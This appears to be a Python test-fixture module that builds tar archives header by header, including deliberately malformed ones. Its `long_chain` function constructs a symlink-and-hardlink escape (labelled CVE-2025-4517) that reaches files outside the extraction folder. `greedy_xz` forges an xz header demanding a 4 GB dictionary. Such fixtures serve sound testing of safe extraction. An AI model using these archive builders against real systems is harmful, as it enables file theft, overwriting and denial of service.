"""Tar archives written header by header, with what no tool would write."""

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zlib
from collections.abc import Iterable

BLOCK = 512
END = bytes(2 * BLOCK)
LONG = "l" * 247


def header(
    name: str | bytes, *, size: int = 0, kind: bytes = b"0", link: str = "", raw_size: bytes | None = None
) -> bytes:
    """One header block with a right checksum."""
    name = name if isinstance(name, bytes) else name.encode()
    octal = f"{size:011o}".encode() + b"\0" if raw_size is None else raw_size
    block = bytearray(
        struct.pack(
            "100s8s8s8s12s12s8s1s100s8s32s32s8s8s155s12x", name[:100], b"0000644\0", b"0000000\0",
            b"0000000\0", octal, b"00000000000\0", b" " * 8, kind, link.encode()[:100], b"ustar\x0000",
            b"", b"", b"", b"", b"",
        )
    )  # fmt: skip
    block[148:156] = f"{sum(block):06o}\0 ".encode()
    return bytes(block)


def padded(data: bytes) -> bytes:
    """Content up to whole blocks."""
    return data + bytes(-len(data) % BLOCK)


def member(name: str | bytes, data: bytes = b"text", kind: bytes = b"0") -> bytes:
    """A member with its content."""
    return header(name, size=len(data), kind=kind) + padded(data)


def link(name: str, target: str, kind: bytes = b"2") -> bytes:
    """A symbolic link (2) or a hard link (1), of any length."""
    long = b""
    if len(target) > 100:
        long += member("././@LongLink", target.encode() + b"\0", b"K")
    if len(name) > 100:
        long += member("././@LongLink", name.encode() + b"\0", b"L")
    return long + header(name, kind=kind, link=target)


def pax(records: dict[str, str], kind: bytes = b"x") -> bytes:
    """An extended header."""
    text = b""
    for key, value in records.items():
        rest = f" {key}={value}\n".encode()
        length = len(rest) + 1
        while len(str(length)) + len(rest) != length:
            length += 1
        text += str(length).encode() + rest
    return member("pax", text, kind)


def folder(name: str) -> bytes:
    """A folder."""
    return header(name, kind=b"5")


def of(content: dict[str, bytes]) -> bytes:
    """A well-made archive, by the standard library."""
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w", format=tarfile.PAX_FORMAT) as opened:
        for name, data in content.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            opened.addfile(info, io.BytesIO(data))
    return file.getvalue()


def long_chain(steps: Iterable[str]) -> bytes:
    """Folders and links of such length that no resolver follows to the end (CVE-2025-4517)."""
    path, made, short = "", b"", ""
    for step in steps:
        here = f"{path}{LONG}"
        made += _long_folder(here) + link(f"{path}{step}", LONG)
        path, short = f"{here}/", f"{short}{step}/"
    deep = f"{short}{'l' * 254}"
    made += link(deep, "../" * 16)
    made += link("escape", f"{deep}/../outside")
    return made + link("flag", "escape/secret.txt", b"1") + member("escape/new.txt")


def _long_folder(name: str) -> bytes:
    return member("././@LongLink", name.encode() + b"\0", b"L") + header(name, kind=b"5")


def compressed(data: bytes, how: str) -> bytes:
    """Compress a tar: "", "gz", "xz" or "bz2"."""
    makers = {"": bytes, "gz": lambda d: gzip.compress(d, mtime=0), "xz": lzma.compress, "bz2": bz2.compress}
    return makers[how](data)


def greedy_xz(data: bytes) -> bytes:
    """An xz stream whose header asks for a dictionary of 4 GB."""
    whole = bytearray(lzma.compress(data))
    size = (whole[12] + 1) * 4  # of the block's header, behind the stream's own 12 bytes
    at = whole.index(b"\x21\x01", 12)  # filter LZMA2, one byte of properties
    whole[at + 2] = 40
    whole[12 + size - 4 : 12 + size] = struct.pack("<L", zlib.crc32(whole[12 : 12 + size - 4]))
    return bytes(whole)
